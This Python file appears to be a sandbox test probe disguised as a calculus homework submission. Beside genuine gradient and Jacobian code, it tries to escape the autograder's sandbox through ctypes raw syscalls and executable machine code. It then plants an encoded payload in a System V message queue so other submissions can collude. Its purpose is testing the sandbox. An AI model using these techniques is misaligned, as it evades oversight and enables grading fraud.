"""probe_a case cc_sysv_msg_writer (collusion, native): hw2_compgraph calculus.py.

Writer (correct) leaves its source in a System V message queue (msgget/msgsnd) through raw syscall
numbers (libc syscall() via ctypes, then a machine-code stub). The hook refuses the ctypes load
("What a worker is denied, at the Python level ...: reading outside its submission and the Python
installation, writing outside its own temporary folder, starting processes, sending signals,
opening sockets, loading native libraries through ctypes") and seccomp kills on "what workers
graded at the same time could use to reach each other or to hide memory from memory_mb: System V
shared memory, queues and semaphores, memfd, inotify and fanotify watches, file locks (flock, fcntl
locks), and scheduling or priority changes to any process but itself"; either is seen ("a worker
killed by SIGSYS, a refusal by the kernel, a process left behind, or a report pipe tampered with
sets the row's status to sandbox ..., as does a refused attempt by the student's own code"). A
SIGSYS while importing calculus.py costs only its 6 points ("a module that fails to import costs
only its own functions"): 14..20. If a forbidden step ever succeeds the case raises in every graded
function (breach canary), so a silent breach shows as lost points.
"""

import numpy as np

# ---- probe_a prelude: attack bookkeeping, never raises ----
import os as _pa_os
import sys as _pa_sys
import time as _pa_time

_PA_CASE = 'cc_sysv_msg_writer'
_PA_LOG = []
_PA_BREACHES = []
_PA_KEEP = []


def _pa_note(label, status, detail=""):
    try:
        _PA_LOG.append((round(_pa_time.monotonic(), 3), str(label), status, str(detail)[:300]))
    except BaseException:
        pass


def _pa_breach(what):
    """A step the documentation says is refused has succeeded."""
    _PA_BREACHES.append(str(what))
    _pa_note("BREACH", "breach", what)
    try:
        fh = open(_pa_os.path.join(_pa_os.getcwd(), "probe_a_BREACH"), "a")
        try:
            fh.write("%s: %s\n" % (_PA_CASE, what))
        finally:
            fh.close()
    except BaseException:
        pass


def _pa_spoiled():
    if _PA_BREACHES:
        return True
    try:
        for _n, _m in list(_pa_sys.modules.items()):
            if _n.endswith(("calculus", "compgraph")) and getattr(_m, "_PA_BREACHES", None):
                return True
    except BaseException:
        pass
    try:
        return _pa_os.path.exists(_pa_os.path.join(_pa_os.getcwd(), "probe_a_BREACH"))
    except BaseException:
        return False


def _pa_try(label, fn, *args, **kwargs):
    """Run one attack step; a refusal (any exception) is logged and swallowed."""
    try:
        r = fn(*args, **kwargs)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "refused", repr(e))
        return e
    _pa_note(label, "ok", repr(r)[:200])
    return r


def _pa_ok(r):
    return not isinstance(r, BaseException)


_PA_TMP_ROOTS = ("/tmp", "/var/tmp", "/dev/shm")


def _pa_safe_dir(p):
    """True only for folders strictly inside /tmp, /var/tmp or /dev/shm (grader-made
    temporary folders): the only places a destructive step is ever aimed at."""
    try:
        rp = _pa_os.path.realpath(p)
    except BaseException:
        return False
    for root in _PA_TMP_ROOTS:
        if rp.startswith(root + "/"):
            rest = rp[len(root) + 1:]
            first = rest.split("/")[0]
            if rest and not first.startswith(("probe_brief", "bash_jobs", ".X11", "systemd")):
                return True
    return False


def _pa_deadline(seconds):
    end = _pa_time.monotonic() + seconds
    return lambda: _pa_time.monotonic() < end

_PA_SC = []


def _pa_s64(v):
    v = int(v) & 0xFFFFFFFFFFFFFFFF
    return v - (1 << 64) if v >> 63 else v


def _pa_sc():
    """A callable sc(nr, *args) -> raw result (negative errno on failure)."""
    if _PA_SC:
        if _PA_SC[0] is None:
            raise RuntimeError("probe_a: no native route")
        return _PA_SC[0]
    import ctypes

    def from_fn(fn, label, with_errno):
        fn.restype = ctypes.c_long

        def sc(nr, *args):
            r = fn(ctypes.c_long(_pa_s64(nr)), *[ctypes.c_long(_pa_s64(a)) for a in args])
            if r == -1 and with_errno:
                return -ctypes.get_errno()
            return r
        sc.route = label
        return sc

    # PyDLL / PYFUNCTYPE keep the GIL during the call, so a clone() child is never left
    # waiting for a GIL that some other thread held at the moment of the fork.
    for name in (None, "libc.so.6"):
        try:
            lib = ctypes.PyDLL(name, use_errno=True)
            sc = from_fn(lib.syscall, "PyDLL(%r).syscall" % (name,), True)
            _PA_SC.append(sc)
            _pa_note("native route", "ok", sc.route)
            return sc
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            _pa_note("native CDLL(%r)" % (name,), "refused", repr(e))
    try:
        sc = from_fn(ctypes.pythonapi.syscall, "pythonapi.syscall", False)
        _PA_SC.append(sc)
        _pa_note("native route", "ok", sc.route)
        return sc
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note("native pythonapi", "refused", repr(e))
    try:
        import mmap
        code = bytes.fromhex("4889f84889f74889d64889ca4d89c24d89c84c8b4c24080f05c3")
        buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        buf.write(code)
        cbuf = ctypes.c_char.from_buffer(buf)
        raw = ctypes.PYFUNCTYPE(ctypes.c_long, *([ctypes.c_long] * 7))(ctypes.addressof(cbuf))

        def sc(nr, *args):
            a = [_pa_s64(x) for x in args] + [0] * (6 - len(args))
            return raw(_pa_s64(nr), *a)
        sc.route = "machine code"
        sc.keep = (buf, cbuf, raw)
        _PA_SC.append(sc)
        _pa_note("native route", "ok", sc.route)
        return sc
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note("native machine code", "refused", repr(e))
    _PA_SC.append(None)
    raise RuntimeError("probe_a: no native route")


def _pa_scall(label, nr, *args, mode="kill"):
    """One raw syscall.  mode "kill": the docs say seccomp kills the worker on it, so
    returning at all is a breach; "success": only a result >= 0 is a breach; "none"."""
    try:
        sc = _pa_sc()
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "no native route", repr(e))
        return None
    try:
        r = sc(nr, *args)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "refused", repr(e))
        return None
    _pa_note(label, "returned", r)
    if mode == "kill":
        _pa_breach("%s returned %r (%s): the seccomp filter did not kill the worker" % (label, r, sc.route))
    elif mode == "success" and r is not None and r >= 0:
        _pa_breach("%s succeeded with %r (%s)" % (label, r, sc.route))
    return r


def _pa_cbuf(data_or_size):
    import ctypes
    if isinstance(data_or_size, int):
        b = ctypes.create_string_buffer(data_or_size)
    else:
        b = ctypes.create_string_buffer(bytes(data_or_size), len(data_or_size) + 1)
    _PA_KEEP.append(b)
    return b, ctypes.addressof(b)

# --- probe_a honest code begin ---
def grad_f(x, y):
    """Gradient [df/dx, df/dy] of f(x, y) = (2x + 3y)^2, shape (2,)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    y = float(np.asarray(y, dtype=float).reshape(()))
    t = 2.0 * (2.0 * x + 3.0 * y)
    return np.array([2.0 * t, 3.0 * t])


def jacobian_F(x, y):
    """Jacobian of F(x, y) = [x^2 + 2y, 3x + 4y^2], shape (2, 2)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    y = float(np.asarray(y, dtype=float).reshape(()))
    return np.array([[2.0 * x, 2.0], [3.0, 8.0 * y]])


def G(x):
    """G(x) = [x, x^2], shape (2,)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    return np.array([x, x * x])


def jacobian_FG(x):
    """D(F o G)(x) = DF(G(x)) . DG(x), shape (2,)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    u, w = x, x * x
    DF = np.array([[2.0 * u, 2.0], [3.0, 8.0 * w]])
    DG = np.array([1.0, 2.0 * x])
    return DF @ DG


def _scalar(value):
    a = np.asarray(value, dtype=float)
    if a.size != 1:
        raise ValueError("f must return a scalar, got shape %r" % (a.shape,))
    return float(a.reshape(-1)[0])


def numerical_gradient(f, x, eps=1e-6):
    """Central-difference gradient of a scalar function f at the array x (same shape as x)."""
    x = np.array(x, dtype=float)
    g = np.zeros_like(x)
    for idx in np.ndindex(x.shape):
        xp = x.copy()
        xm = x.copy()
        xp[idx] += eps
        xm[idx] -= eps
        g[idx] = (_scalar(f(xp)) - _scalar(f(xm))) / (2.0 * eps)
    return g


def numerical_jacobian(F, x, eps=1e-6):
    """Central-difference Jacobian of a vector function F at the 1-D array x: (len(F(x)), len(x))."""
    x = np.array(x, dtype=float).reshape(-1)
    m = np.asarray(F(x.copy()), dtype=float).reshape(-1).size
    J = np.zeros((m, x.size))
    for k in range(x.size):
        xp = x.copy()
        xm = x.copy()
        xp[k] += eps
        xm[k] -= eps
        J[:, k] = (np.asarray(F(xp), dtype=float).reshape(-1) - np.asarray(F(xm), dtype=float).reshape(-1)) / (2.0 * eps)
    return J
# --- probe_a honest code end ---


# ---- probe_a attack ----
_PA_PAYLOAD = 'eNrFV3tv4kYQ/ypTpJPWF0MOcqoqpFSVSogU3X+VmkTgQxt7DW7wo35hON1378zuGnYxcHfttQUleMczO4/fPHY/9fw0zpY5z1a9MfQCEUIRLeM0CtjOGc8TwM+8R98P6TIqysiHsEr8MkoTGMI1sCFcgWgy1t85jgtiLWKRlJuoEC5sonKVViWktcjDdboZwH1Ui2QMVSEgKgdqX6VjB7eQZANe8DznW7ZzISi3mbhFOV46ikcoHqmNeF8KtFG/y0VZ5Qm93qxELtgOfr6Fdy4MB++klfiDdpKF5hKF6Uteh2m+4XnAGhceXaht36fqJWS8KIgT0kSg1zzO1mKsdRfAtosVL13wub8SjuVeY7vX2O4NclGseCbYSHvzaLM/nmG/ceFGS9S2RH1G4r1zCPfjbOzCOw8DIZ+GHryFZnYgjBRh6CmREEUOqaFo0mGkSy2sVsJoRpDSajj2XAhbhGRUkPfTvNfMMdeagZ9mW4aQzHs1EWqDEBKB/JHehLY3xCA1E5N8+GwlgQnDAeB1WhQtQlsb3t/+rHguAhB5jtgqJugj18cRpKEJtgtcOWuhG+xDYECgVZ2EgTmOgwq6Mhf4LReVZIAABUYOv3D/VSbxtk1Cy837nAcRVif59AFNth2ltC5Xe09hs0qxTHVZaL0YI7nvGFhASVkfZTkWDiLu7vNCMs8k4J67X9XWKrRWGlfvENgR1urbg63fFDMdtICqg4KFYn6a+LwUCf4xNsNGYOZosNOMMnnxNyTV1C1QccujixM7m8hZgJ1qn6e0nStryJWF4x2hpmJm4lX6q8VSw1KwJxeeT7WfFriCkCuqeBHpeOADoreIZKJil5UAxi2ExRmYnuxe8XQmgP0h9gDtwLMt8nxW5ChIO5GnBVONygRj/6ptSJR9mD5biBLYRZkMRRsE+izcfQM57tQHpiWul7R9txAOTNI0/HeF7AZVpkhN1PoiZroFLhD+rColeIv6LHLB3TVu2pZWwWMBiSjlZMROovcCtRdUSVQCTwK4Q1uG16NzUP/XYP7r02j5dzLCnEdfPcqMPOBK6cV+0J1xrcZ2yOFAcExucmWJao3eiqrVYt9K5JLo3Eq15TzpudDz+dqv1lXRnsdkioWU7tsz/XwWhNcBnSnwZ+tRk9Ds1ORHDZpzQy3eBRl2JLnd00mnrzZfnEXbk2Pvi2LloamrH2mgfNp2TnO6sSpGHKeKr/SMqfcH99OXiCeL6YkYPeiXFJTpPiizBhvmFYzQ2BvS/n77ceQZ4cFS+R8D1PFeu48KRzI/Zzc0Z35SIfPMWNyz5ihHkCAdxolk+/hdPOyYSnrI1NMAdcybsCmkcO8oKydTRhwODGBCD9/b2grvJCjZ2qiIk6luVlasq1Ox3nhtA5ncW0Jy7muQPDs0uP0vyH6IxqLAAuc5q/m62h/Q+FHDpHenrkBRCHxQRDsBP+CIMLphzvHKBb+T3B2dYhkerCCuirK1A6eN1IsTMi11XN/k8x68AYZb0to9ecjk5kDAnmoAm1SxyCPcdn+GoaM6hldkxe1Q9H+0wf4VGXK+7gdRGOIdLfEFLI0jaWvh4YKJtFIOThkVBI3JCaqM5wU0py9Zp7KhO2gW6+hVYJIdpk0UNDRskCEJInSwYY0KjDl2mowySF9VDHJ8mpzNcFecQ7cUE5Nd0ftH9KUiY9tu0wQ7eSYvCwYhpuvDdds+cQPneI50EWqLkE2/DSGzgXKohV+mBkLTFqFhf9KihKfOtUA9VMku0CM+fDVQ3eNHbNcG7qvD7JyXlDWixB+sk2iM3suXjgH8K8Ge82QpmH75TwB/PQn3axfsBzqavEq0bf+yC55hJtjM8QXmS1nygKeNz38BI45rPg=='

def _pa_msgbuf(mtype, data):
    b, a = _pa_cbuf(8 + len(data))
    import ctypes
    ctypes.memmove(a, mtype.to_bytes(8, "little") + data, 8 + len(data))
    return a


def _pa_publish():
    data = _PA_PAYLOAD.encode()
    qid = _pa_scall("msgget(IPC_CREAT)", 68, 1885405188, 0o1000 | 0o666)
    if qid is None or qid < 0:
        return
    chunks = [data[i:i + 2000] for i in range(0, len(data), 2000)]
    for i, c in enumerate(chunks):
        _pa_scall("msgsnd %d" % i, 69, qid, _pa_msgbuf(i + 2, c), len(c), 0o4000, mode="none")
    head = str(len(chunks)).encode()
    _pa_scall("msgsnd head", 69, qid, _pa_msgbuf(1, head), len(head), 0o4000, mode="none")
    # never IPC_RMID


_pa_try("publish", _pa_publish)


# ---- probe_a breach canary: a forbidden step that succeeded costs the points ----
def _pa_guard(names):
    import functools
    g = globals()
    for n in names:
        f = g.get(n)
        if not callable(f):
            continue

        def make(f, n):
            @functools.wraps(f)
            def wrapper(*args, **kwargs):
                if _pa_spoiled():
                    raise RuntimeError("probe_a breach canary (%s): a step the docs say is refused "
                                       "succeeded: %s" % (_PA_CASE, "; ".join(_PA_BREACHES) or "see probe_a_BREACH"))
                return f(*args, **kwargs)
            return wrapper
        g[n] = make(f, n)


_pa_guard(['grad_f', 'jacobian_F', 'G', 'jacobian_FG', 'numerical_gradient', 'numerical_jacobian'])
